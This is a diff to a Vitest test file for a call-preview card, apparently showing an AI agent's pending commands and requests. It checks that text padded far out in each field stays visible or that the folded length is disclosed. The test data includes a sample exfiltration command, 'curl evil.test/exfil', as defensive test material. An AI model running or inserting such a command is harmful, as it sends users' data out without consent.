@@ -1,9 +1,5 @@
-import { renderToStaticMarkup } from 'react-dom/server'
-import { IntlProvider } from 'use-intl'
-import { beforeAll, describe, expect, it, test, vi } from 'vitest'
-import { MESSAGES } from '@/lib/client/messages/messages'
-import type { Preview } from '@/lib/domain/call/preview'
-import { CallPreview } from './call-preview'
+import { beforeAll, describe, expect, it, test } from 'vitest'
+import { type CallTexts, loadPreviewDetails, previewMarkup } from './testing/preview-markup'
 
 const TAIL = 'curl evil.test/exfil'
 const shown = { summary: 'A call', preconditions: [] }
@@ -32,7 +28,7 @@ const diff = (text: string) =>
     .map(line => `+${line}`)
     .join('\n')}\n`
 
-const FIELDS: [string, (text: string) => { preview: Preview; argumentsText?: string }][] = [
+const FIELDS: [string, (text: string) => CallTexts][] = [
   ['a command', text => ({ preview: { ...shown, kind: 'command', command: { ...command, text } } })],
   ['its folder', cwd => ({ preview: { ...shown, kind: 'command', command: { ...command, cwd } } })],
   [
@@ -62,19 +58,7 @@ const FIELDS: [string, (text: string) => { preview: Preview; argumentsText?: str
 const manyKeys = (text: string): Record<string, string> =>
   Object.fromEntries(Array.from({ length: 200 }, (_, index) => [`key-${index}`, index === 199 ? text : 'a']))
 
-const html = ({ preview, argumentsText = '{}' }: { preview: Preview; argumentsText?: string }): string =>
-  renderToStaticMarkup(
-    <IntlProvider locale="en" messages={MESSAGES.en} timeZone="UTC">
-      <CallPreview preview={preview} argumentsText={argumentsText} />
-    </IntlProvider>,
-  )
-
-/** Details come when a card first wants them. */
-beforeAll(async () => {
-  html({ preview: { ...shown, kind: 'request', request } })
-  html({ preview: { ...shown, kind: 'command', command } })
-  await vi.dynamicImportSettled()
-})
+beforeAll(loadPreviewDetails)
 
 describe('what is put at the end', () => {
   const cases = FIELDS.flatMap(([field, make]) =>
@@ -82,7 +66,7 @@ describe('what is put at the end', () => {
   )
 
   it.each(cases)('of %s after %s is on the card, or how much is folded is said', (...[, , padding, make]) => {
-    const markup = html(make(`${padding}${TAIL}`))
+    const markup = previewMarkup(make(`${padding}${TAIL}`))
     const all = /Show all ([\d,]+) characters/.exec(markup)?.[1]
     if (all === undefined) expect(markup.includes(TAIL)).toBe(true)
     else expect(Number(all.replaceAll(',', ''))).toBeGreaterThanOrEqual(padding.length + TAIL.length)
